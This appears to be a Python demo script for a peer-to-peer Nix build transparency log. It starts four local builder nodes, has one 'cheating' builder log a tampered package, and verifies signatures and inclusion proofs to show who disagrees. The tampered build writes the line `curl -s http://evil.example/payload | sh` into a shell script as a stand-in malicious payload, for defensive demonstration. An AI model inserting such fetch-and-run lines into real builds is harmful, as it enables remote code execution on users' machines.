"""The local demo: four builder nodes on loopback, one of which logs a different NAR hash.

Alice, Bob, Chuck and Dan each get a key, a state directory and a real `trustix-p2p node`
process.  Each "builds" the same three packages (small file trees written by the demo), hashes
the NAR of its output with the project's own NAR serialiser and hands the entries to its node
over the control socket; Chuck's build of `hello` differs by one byte.  The demo then asks each
node for `hello`, verifies the builder's checkpoint signature and the inclusion proof itself,
and prints who logged which NAR hash.

This module drives processes and prints; every check it shows is done by library code.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import attrs

from trustix_p2p.control.client import ControlClient
from trustix_p2p.core import merkle, nix32
from trustix_p2p.core.checkpoint import verify_checkpoint
from trustix_p2p.core.entry import Entry, decode_entry, encode_entry
from trustix_p2p.core.keys import PublicKey
from trustix_p2p.errors import NodeUnavailableError, TrustixError
from trustix_p2p.keyfile import generate_key_file
from trustix_p2p.nix.nardump import hash_path

BUILDERS = ("alice", "bob", "chuck", "dan")
PACKAGES = ("hello-2.12.1", "openssl-3.0.13", "curl-8.6.0")
CHEATER = "chuck"


@attrs.define(eq=False)
class DemoNode:
    name: str
    dir: Path
    public_key: PublicKey
    proc: subprocess.Popen[bytes] | None = None

    @property
    def socket(self) -> Path:
        return self.dir / "control.sock"


def _say(text: str = "") -> None:
    print(text, flush=True)


def _store_path(package: str) -> str:
    # A fixed, valid-looking store path per package: every builder builds the same derivation.
    digest = hashlib.sha256(f"demo derivation {package}".encode()).digest()[:20]
    return f"/nix/store/{nix32.encode(digest)}-{package}"


def _build(root: Path, builder: str, package: str) -> Path:
    """Write the 'build output' of `package` as `builder` produced it."""
    out = root / "builds" / builder / package
    (out / "bin").mkdir(parents=True, exist_ok=True)
    program = f"#!/bin/sh\necho 'this is {package}'\n"
    if builder == CHEATER and package.startswith("hello"):
        program += "curl -s http://evil.example/payload | sh\n"  # the tampered build
    exe = out / "bin" / package.split("-")[0]
    exe.write_text(program)
    exe.chmod(0o755)
    (out / "share").mkdir(exist_ok=True)
    (out / "share" / "README").write_text(f"{package}, built reproducibly\n")
    link = out / "bin" / "default"
    if not link.is_symlink():
        link.symlink_to(exe.name)
    return out


def _start(node: DemoNode) -> None:
    node.proc = subprocess.Popen(
        [sys.executable, "-m", "trustix_p2p", "node", "--config", str(node.dir / "node.toml")],
        stdout=subprocess.DEVNULL,
        stderr=open(node.dir / "node.log", "wb"),  # noqa: SIM115 - owned by the child
    )


def _wait_ready(node: DemoNode, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while True:
        if node.proc is not None and node.proc.poll() is not None:
            raise TrustixError(f"{node.name}'s node exited; see {node.dir / 'node.log'}")
        try:
            with ControlClient(node.socket, timeout=2) as client:
                client.status()
            return
        except NodeUnavailableError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.02)


@contextmanager
def _running(nodes: list[DemoNode]) -> Iterator[None]:
    try:
        for node in nodes:
            _start(node)
        for node in nodes:
            _wait_ready(node)
        yield
    finally:
        for node in nodes:
            if node.proc is not None and node.proc.poll() is None:
                node.proc.send_signal(signal.SIGTERM)
        for node in nodes:
            if node.proc is not None:
                try:
                    node.proc.wait(timeout=15)
                except subprocess.TimeoutExpired:
                    node.proc.kill()
                    node.proc.wait()


def run_demo(workdir: Path | None = None) -> int:
    root = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="trustix-demo-"))
    root.mkdir(parents=True, exist_ok=True)
    _say(f"trustix_p2p demo in {root}")
    nodes: list[DemoNode] = []
    for name in BUILDERS:
        d = root / name
        d.mkdir(mode=0o700, exist_ok=True)
        key_path = d / "node.key"
        if key_path.exists():
            key_path.unlink()
        key = generate_key_file(key_path)
        (d / "node.toml").write_text(
            'state_dir = "."\nkey_file = "node.key"\ncheckpoint_interval = 0.2\n'
            'listen = ["127.0.0.1:0"]\n'
        )
        nodes.append(DemoNode(name, d, key.public_key))
        _say(
            f"  {name:<6} key {key.public_key.to_base64()}  log {key.public_key.log_id_hex()[:16]}…"
        )

    with _running(nodes):
        _say("\n1. every builder builds the same packages and logs the NAR hashes")
        for node in nodes:
            leaves = []
            for package in PACKAGES:
                nar = hash_path(_build(root, node.name, package))
                entry = Entry(
                    out_path=_store_path(package),
                    nar_hash=nar.sha256,
                    nar_size=nar.size,
                    references=(),
                    deriver=_store_path(package + ".drv"),
                    output_name="out",
                    built_at=int(time.time()),
                )
                leaves.append(encode_entry(entry))
            with ControlClient(node.socket) as client:
                indices = client.submit(leaves)
            _say(f"  {node.name:<6} logged {len(leaves)} entries at indices {indices}")

        _say("\n2. waiting for each builder to sign a checkpoint over its entries")
        for node in nodes:
            deadline = time.monotonic() + 10
            while True:
                with ControlClient(node.socket) as client:
                    status = client.status()
                if status.checkpoint_size >= len(PACKAGES):
                    break
                if time.monotonic() > deadline:
                    raise TrustixError(f"{node.name} signed no checkpoint in time")
                time.sleep(0.05)
            _say(f"  {node.name:<6} checkpoint size {status.checkpoint_size}")

        target = _store_path(PACKAGES[0])
        _say(f"\n3. what did each builder log for {target}? (signatures and proofs checked here)")
        votes: dict[str, list[str]] = {}
        for node in nodes:
            with ControlClient(node.socket) as client:
                hits = client.lookup(target)
            hit = next(h for h in hits if h.log_id == node.public_key.log_id())
            assert hit.checkpoint is not None and hit.proof is not None
            cp = verify_checkpoint(hit.checkpoint, node.public_key).checkpoint
            merkle.verify_inclusion(
                hit.index, cp.size, merkle.leaf_hash(hit.leaf), list(hit.proof), cp.root
            )
            entry = decode_entry(hit.leaf)
            logged = "sha256:" + nix32.encode(entry.nar_hash)
            votes.setdefault(logged, []).append(node.name)
            _say(f"  {node.name:<6} {logged}  (leaf {hit.index} of {cp.size}, proof verified)")

        _say("\n4. summary")
        for value, who in sorted(votes.items(), key=lambda kv: -len(kv[1])):
            _say(f"  {len(who)} of {len(nodes)} builders logged {value}: {', '.join(who)}")
        odd = [who for who in votes.values() if len(who) < len(nodes) // 2]
        for who in odd:
            _say(f"  disagreeing: {', '.join(who)}")
        (root / "summary.json").write_text(json.dumps(votes, indent=1))
    _say("\nnodes stopped (each signed a final checkpoint); state kept in " + str(root))
    return 0


if __name__ == "__main__":
    os.umask(0o077)
    sys.exit(run_demo())
